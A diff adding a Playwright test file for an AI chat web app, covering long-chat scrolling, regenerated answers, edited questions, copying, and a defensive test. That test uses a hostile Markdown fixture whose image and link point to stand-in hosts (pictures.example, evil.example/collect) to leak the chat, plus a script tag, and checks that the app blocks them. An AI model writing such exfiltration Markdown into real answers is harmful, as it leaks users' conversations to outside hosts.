@@ -1,0 +1,118 @@
+import type { Page } from "@playwright/test";
+import { OWNER, type Site } from "../site/site.ts";
+import { expect, say, test } from "../site/test.ts";
+
+const HOSTILE = `An image ![The bag](https://pictures.example/p.png?leak=everything), a [guide](https://evil.example/collect?q=everything+that+was+said) and <script>document.title = "run"</script>.
+
+| Day | Words |
+|-----|-------|
+| 1 | **140** |
+
+\`\`\`js
+const days = 19;
+\`\`\`
+
+Prices of $5 and $10, and $a^2$.`;
+
+/** A chat of the owner with that many messages, the last one saying `last`. */
+async function aChat(site: Site, count: number, last = "The last answer."): Promise<number> {
+  const [made] = await site.sql(
+    `insert into conversations (user_id, name, is_name_given)
+     select user_id, 'A chat to read', true from users where email = $1 returning conversation_id, user_id`,
+    [OWNER.email],
+  );
+  await site.sql(
+    `insert into messages (conversation_id, user_id, role, content, finish_reason, words)
+     select $1, $2, case when n % 2 = 1 then 'user' else 'assistant' end,
+       case when n = $3::int then $4 else 'Message number ' || n || '. ' || repeat('Words of it. ', 5 + n % 40) end,
+       case when n % 2 = 0 then 'stop' end, case when n % 2 = 0 then 20 end
+     from generate_series(1, $3::int) n order by n`,
+    [made?.conversation_id, made?.user_id, count, last],
+  );
+  return Number(made?.conversation_id);
+}
+
+const thread = (page: Page) => page.getByRole("region", { name: "Messages" });
+
+test("a long chat is read to its beginning, and only what is in sight is drawn", async ({ owner: page, site }) => {
+  await page.goto(`/conversations/${await aChat(site, 64)}`);
+  await expect(page.getByText("The last answer.")).toBeInViewport();
+  const drawn = thread(page).getByRole("article");
+  await thread(page).hover();
+  await expect(async () => {
+    await page.mouse.wheel(0, -3000);
+    await expect(page.getByText("The beginning of this chat, 64 messages in all.")).toBeVisible({ timeout: 200 });
+  }).toPass({ timeout: 12_000, intervals: [50] });
+  expect(await drawn.count()).toBeLessThan(30);
+  await expect(page.getByText("Message number 1.", { exact: false }).first()).toBeVisible();
+  await page.getByRole("button", { name: "Jump to latest" }).click();
+  await expect(page.getByText("The last answer.")).toBeInViewport();
+});
+
+test("an answer is written again, and its versions can be gone through", async ({ owner: page }) => {
+  await page.goto("/conversations/new");
+  await say(page, "words=6 Twice");
+  await expect(page.getByText("6 words", { exact: true })).toBeVisible();
+  await page.getByRole("button", { name: "Write again" }).click();
+  const versions = page.getByRole("group", { name: "Version 2 of 2" });
+  await expect(versions).toBeVisible();
+  await expect(page.getByText("6 words", { exact: true })).toBeVisible();
+  await versions.getByRole("button", { name: "Earlier version" }).click();
+  await expect(page.getByRole("group", { name: "Version 1 of 2" })).toBeVisible();
+});
+
+test("a question is edited in its place and asked again; Esc gives that up", async ({ owner: page }) => {
+  await page.goto("/conversations/new");
+  await say(page, "words=4 The first wording");
+  await expect(page.getByText("4 words", { exact: true })).toBeVisible();
+  await page.getByText("The first wording").last().hover();
+  await page.getByRole("button", { name: "Edit" }).click();
+  const field = page.getByRole("textbox", { name: "Your message, edited" });
+  await field.press("Escape");
+  await expect(field).toBeHidden();
+  await page.getByRole("button", { name: "Edit" }).click();
+  await field.fill("words=7 The second wording");
+  await field.press("Enter");
+  await expect(page.getByText("7 words", { exact: true })).toBeVisible();
+  await expect(thread(page).getByText("The first wording")).toBeHidden();
+  await expect(page.getByRole("group", { name: "Version 2 of 2" })).toBeVisible();
+});
+
+test("an answer cannot carry the chat away: no image is fetched, and a link shows where it leads", async ({
+  owner: page,
+  site,
+}) => {
+  const asked: string[] = [];
+  page.on("request", (request) => asked.push(request.url()));
+  await page.goto(`/conversations/${await aChat(site, 2, HOSTILE)}`);
+  await expect(page.getByText("Picture from pictures.example, not loaded")).toBeVisible();
+  await expect(page.getByRole("table")).toBeVisible();
+  await page.getByRole("link", { name: "guide" }).click();
+  const dialog = page.getByRole("dialog", { name: "Open evil.example?" });
+  await expect(dialog).toContainText("https://evil.example/collect?q=everything+that+was+said");
+  await dialog.getByRole("button", { name: "Stay here" }).click();
+  await expect(dialog).toBeHidden();
+  expect(asked.filter((url) => url.includes(".example"))).toEqual([]);
+  expect(await page.title()).not.toBe("run");
+});
+
+test("an answer is copied formatted, and plain without the marks of Markdown", async ({
+  owner: page,
+  context,
+  site,
+}) => {
+  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
+  await page.goto(`/conversations/${await aChat(site, 2, HOSTILE)}`);
+  await expect(page.getByRole("table")).toBeVisible();
+  await thread(page).getByRole("article").last().getByRole("button", { name: "Copy" }).last().click();
+  await expect(page.getByRole("button", { name: "Copied" })).toBeVisible();
+  const { html, text } = await page.evaluate(async () => {
+    const [item] = await navigator.clipboard.read();
+    const read = async (type: string) => (await item?.getType(type))?.text() ?? "";
+    return { html: await read("text/html"), text: await read("text/plain") };
+  });
+  expect(html).toContain("<strong>140</strong>");
+  expect(text).toContain("1\t140");
+  expect(text).toContain("const days = 19;");
+  expect(text).not.toMatch(/\*\*|```|\|/);
+});
